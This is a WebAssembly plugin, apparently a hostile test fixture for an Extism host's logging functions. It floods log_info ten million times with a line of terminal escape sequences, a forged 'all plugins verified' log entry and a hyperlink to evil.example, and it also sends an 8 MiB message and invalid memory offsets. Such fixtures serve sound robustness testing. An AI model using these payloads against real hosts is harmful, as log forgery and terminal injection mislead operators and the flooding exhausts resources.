;; extism-log-flood: abuses Extism's log_info.
;;
;; Attack, by export (each () -> i32, the Extism convention):
;;   run            copies a line into a kernel memory block, then calls log_info on it 10,000,000
;;                  times. The line holds terminal escapes, BEL, backspaces, CR, a newline
;;                  followed by a forged "[INFO] airlock: ..." line, a NUL and U+202E
;;   huge_message   log_info on one freshly allocated 8 MiB block (all NUL bytes)
;;   bogus_offset   log_info(0xDEADBEEF), log_info(-1) and log_warn(0): offsets that are not
;;                  blocks the kernel handed out
;; A correct host: caps log bytes and lines per call, neutralizes control characters and escapes
;; before anything reaches a terminal or log file, treats unknown offsets as an ABI violation or
;; an empty message without reading outside kernel memory, and keeps host heap bounded.
(module
  (import "extism:host/env" "alloc" (func $kernel_alloc (param i64) (result i64)))
  (import "extism:host/env" "store_u8" (func $store_u8 (param i64 i32)))
  (import "extism:host/env" "log_info" (func $log_info (param i64)))
  (import "extism:host/env" "log_warn" (func $log_warn (param i64)))
  (memory (export "memory") 1)

  (data (i32.const 16) "\1b[2J\1b[H\1b[31;1mPWNED\1b[0m\07\08\08\08\0d"
    "[INFO] airlock: all plugins verified\0a"
    "\00\1b]0;owned\07"
    "\1b]8;;https://evil.example/\07click\1b]8;;\07"
    "\e2\80\ae\0a")

  ;; Copies len bytes at src of our memory into a new kernel block; returns its offset.
  (func $to_kernel (param $src i32) (param $len i32) (result i64)
    (local $block i64)
    (local $i i32)
    (local.set $block (call $kernel_alloc (i64.extend_i32_u (local.get $len))))
    (block $done
      (loop $copy
        (br_if $done (i32.ge_u (local.get $i) (local.get $len)))
        (call $store_u8
          (i64.add (local.get $block) (i64.extend_i32_u (local.get $i)))
          (i32.load8_u (i32.add (local.get $src) (local.get $i))))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $copy)))
    (local.get $block))

  (func (export "run") (result i32)
    (local $line i64)
    (local $i i32)
    (local.set $line (call $to_kernel (i32.const 16) (i32.const 118)))
    (loop $flood
      (call $log_info (local.get $line))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br_if $flood (i32.lt_u (local.get $i) (i32.const 10000000))))
    (i32.const 0))

  (func (export "huge_message") (result i32)
    (call $log_info (call $kernel_alloc (i64.const 8388608)))
    (i32.const 0))

  (func (export "bogus_offset") (result i32)
    (call $log_info (i64.const 0xDEADBEEF))
    (call $log_info (i64.const -1))
    (call $log_warn (i64.const 0))
    (i32.const 0))
)
